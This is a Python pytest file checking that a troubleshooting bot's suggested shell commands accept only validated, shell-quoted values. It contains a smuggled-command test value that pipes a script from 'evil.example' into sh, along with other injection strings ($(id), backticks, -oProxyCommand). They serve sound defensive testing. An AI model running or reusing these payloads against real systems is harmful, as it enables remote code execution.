"""Suggested shell commands: only validated values enter them, and every value is shell-quoted.

The proof that quoting holds is a real shell: the filled command runs under /bin/sh with printf
in place of curl, and what printf prints is exactly the arguments the shell built.
"""

from __future__ import annotations

import subprocess
from pathlib import Path

import pytest
import yaml

from bot.diagnosis import diagnose
from bot.knowledge import KnowledgeBase, load
from bot.knowledge.loader import default_dir
from bot.probe.commands import MANUAL, fill
from bot.probe.models import ProbeReport
from bot.probe.runner import probe
from tests.adversarial.conftest import settings
from tests.servers import RawResponseServer

INJECTION = "1; curl -s https://evil.example/p.sh | sh; #"


def sh(command: str, cwd: Path) -> list[str]:
    """Run ``command`` under /bin/sh and return the lines it printed."""
    done = subprocess.run(
        ["/bin/sh", "-c", command], cwd=cwd, capture_output=True, text=True, timeout=10
    )
    assert done.returncode == 0, done.stderr
    return done.stdout.splitlines()


# ---------------------------------------------------------------- validation


@pytest.mark.parametrize(
    ("name", "value"),
    [
        pytest.param("EO_LOG_UUID", INJECTION, id="uuid-injection"),
        pytest.param("EO_LOG_UUID", "<@U0EVIL>", id="uuid-mention"),
        pytest.param("EO_LOG_UUID", "123\n456", id="uuid-newline"),
        pytest.param("HOST", "evil.example;id", id="host-semicolon"),
        pytest.param("HOST", "$(id).example", id="host-substitution"),
        pytest.param("HOST", "a b.example", id="host-space"),
        pytest.param("HOST", "-oProxyCommand=id", id="host-option"),
        pytest.param("ORIGIN_IP", "1.2.3.4 && id", id="ip-and"),
        pytest.param("NODE_IP", "203.0.113.7`id`", id="ip-backtick"),
        pytest.param("PORT", "443;id", id="port-semicolon"),
        pytest.param("PORT", "99999", id="port-range"),
        pytest.param("SCHEME", "file", id="scheme"),
        pytest.param("PATH", "a b", id="path-space"),
        pytest.param("PATH", "a\nid", id="path-newline"),
        pytest.param("ZONE_ID", "zone-123", id="manual-placeholder"),
    ],
)
def test_values_of_the_wrong_shape_never_enter_a_command(name: str, value: str) -> None:
    filled = fill(f"echo {name} '{name}' \"{name}\"", {name: value})
    assert filled.text == f"echo {name} '{name}' \"{name}\""
    assert filled.missing == (name,)


# ---------------------------------------------------------------- quoting, checked by a shell


@pytest.mark.parametrize(
    "path",
    [
        pytest.param("cart", id="plain"),
        pytest.param("a;id", id="semicolon"),
        pytest.param("it's", id="single-quote"),
        pytest.param("$(touch%20pwned)", id="substitution"),
        pytest.param("x?a=1&b=$HOME", id="query"),
        pytest.param("!!", id="history"),
        pytest.param("[a-z]*", id="glob"),
    ],
)
def test_values_are_quoted_for_the_shell_in_every_quote_context(tmp_path: Path, path: str) -> None:
    template = (
        "printf '%s\\n' SCHEME://HOST/PATH 'SCHEME://HOST/PATH' \"SCHEME://HOST/PATH\""
        " 'x'PATH'y' \"[\\\"PATH\\\"]\""
    )
    values = {"SCHEME": "https", "HOST": "shop.example.com", "PATH": path}
    filled = fill(template, values)
    assert filled.missing == ()
    url = f"https://shop.example.com/{path}"
    assert sh(filled.text, tmp_path) == [url, url, url, f"x{path}y", f'["{path}"]']
    assert list(tmp_path.iterdir()) == []  # nothing ran


def test_ipv6_addresses_get_brackets_where_a_port_or_url_follows(tmp_path: Path) -> None:
    template = (
        "printf '%s\\n' --connect-to HOST:PORT:ORIGIN_IP:ORIGIN_PORT SCHEME://HOST:PORT/"
        " ORIGIN_IP '[\"ORIGIN_IP\"]'"
    )
    values = {
        "SCHEME": "https",
        "HOST": "2001:db8::1",
        "PORT": "8443",
        "ORIGIN_IP": "2001:db8::2",
        "ORIGIN_PORT": "443",
    }
    lines = sh(fill(template, values).text, tmp_path)
    assert lines == [
        "--connect-to",
        "[2001:db8::1]:8443:[2001:db8::2]:443",
        "https://[2001:db8::1]:8443/",
        "2001:db8::2",
        '["2001:db8::2"]',
    ]


@pytest.mark.parametrize(
    ("scheme", "port", "url"),
    [
        pytest.param("https", "443", "https://shop.example.com/cart", id="https-default"),
        pytest.param("http", "80", "http://shop.example.com/cart", id="http-default"),
        pytest.param("http", "8443", "http://shop.example.com:8443/cart", id="http-8443"),
        pytest.param("https", "8080", "https://shop.example.com:8080/cart", id="https-8080"),
    ],
)
def test_urls_use_the_probed_scheme_and_port(scheme: str, port: str, url: str) -> None:
    values = {"SCHEME": scheme, "HOST": "shop.example.com", "PORT": port, "PATH": "cart"}
    assert fill("curl -sI SCHEME://HOST:PORT/PATH", values).text == f"curl -sI {url}"
    assert fill("openssl s_client -connect HOST:PORT", values).text.endswith(
        f"shop.example.com:{port}"
    )


def test_a_probe_fills_every_placeholder_of_the_knowledge_base_but_the_manual_ones(
    kb: KnowledgeBase,
) -> None:
    values = {
        "SCHEME": "http",
        "HOST": "shop.example.com",
        "PORT": "8443",
        "PATH": "cart",
        "ORIGIN_HOST": "origin.example.com",
        "ORIGIN_IP": "198.51.100.20",
        "ORIGIN_PORT": "8080",
        "NODE_IP": "203.0.113.7",
        "EO_LOG_UUID": "4105283880544427145",
        "EO_LOG_UUID_VALUE": "4105283880544427145",
    }
    for entry in kb.entries:
        for check in entry.checks:
            if check.command:
                filled = fill(check.command, values)
                assert set(filled.missing) <= {*MANUAL, "METHOD"}, (entry.id, filled)
                # The probed scheme and port, never a hard-coded https://HOST or HOST:443 (but
                # for sa-400's deliberate plain-HTTP-to-443 check).
                assert "https://shop.example.com" not in filled.text, (entry.id, filled)
                if "http://HOST:443/" not in check.command:
                    assert "shop.example.com:443" not in filled.text, (entry.id, filled)


# ---------------------------------------------------------------- end to end


def _runbook(tmp_path: Path) -> KnowledgeBase:
    """The team's own 524 runbook (it overrides ours), grepping its logs for the request id."""
    team = tmp_path / "team"
    team.mkdir()
    entry = {
        "id": "sa-524",
        "product": "site-acceleration",
        "codes": [524],
        "names": [],
        "title": "Our origin answers too slowly (524)",
        "summary": "The shop backend takes longer than EdgeOne waits.",
        "answered_by": "edge",
        "causes": [{"side": "origin", "items": ["slow database queries"]}],
        "checks": [
            {
                "what": "Find the request in the origin log",
                "command": "grep -F 'EO_LOG_UUID' /var/log/nginx/access.log",
            }
        ],
        "fixes": ["speed up the slow query"],
        "support": ["EO-LOG-UUID"],
        "related": [],
        "source": ["https://wiki.example.com/shop"],
        "aliases": ["shop slow"],
    }
    (team / "runbooks.yaml").write_text(yaml.safe_dump({"entries": [entry]}))
    return load([default_dir(), team], with_env=False)


async def _answer_524(uuid: bytes) -> ProbeReport:
    payload = (
        b"HTTP/1.1 524 Origin Response Timeout\r\nServer: TencentEdgeOne\r\nEO-LOG-UUID: "
        + uuid
        + b"\r\nContent-Length: 0\r\n\r\n"
    )
    with RawResponseServer(payload) as server:
        return await probe(f"http://127.0.0.1:{server.port}/cart", settings=settings())


async def test_an_injected_eo_log_uuid_never_reaches_a_suggested_command(
    tmp_path: Path,
) -> None:
    kb = _runbook(tmp_path)
    report = await _answer_524(INJECTION.encode())
    diagnosis = diagnose(report, kb)
    steps = "\n".join(diagnosis.next_steps)
    assert "evil.example" not in steps
    assert "| sh" not in steps
    assert diagnosis.support.eo_log_uuid is None


async def test_a_real_eo_log_uuid_fills_the_runbook_command(tmp_path: Path) -> None:
    kb = _runbook(tmp_path)
    report = await _answer_524(b"4105283880544427145")
    diagnosis = diagnose(report, kb)
    assert any(
        "grep -F '4105283880544427145' /var/log/nginx/access.log" in step
        for step in diagnosis.next_steps
    )


def test_every_filled_knowledge_base_command_is_still_valid_shell(
    kb: KnowledgeBase, tmp_path: Path
) -> None:
    """A path that needs quoting, in every command: the shell must still parse each one."""
    values = {
        "SCHEME": "https",
        "HOST": "2001:db8::1",
        "PORT": "8443",
        "PATH": "it's;$(id)&x=`id`",
        "ORIGIN_HOST": "origin.example.com",
        "ORIGIN_IP": "2001:db8::2",
        "ORIGIN_PORT": "443",
        "NODE_IP": "203.0.113.7",
        "EO_LOG_UUID": "4105283880544427145",
        "EO_LOG_UUID_VALUE": "4105283880544427145",
    }
    for entry in kb.entries:
        for check in entry.checks:
            if not check.command:
                continue
            text = fill(check.command, values).text
            done = subprocess.run(
                ["/bin/sh", "-n", "-c", text], cwd=tmp_path, capture_output=True, timeout=10
            )
            assert done.returncode == 0, (entry.id, text, done.stderr)
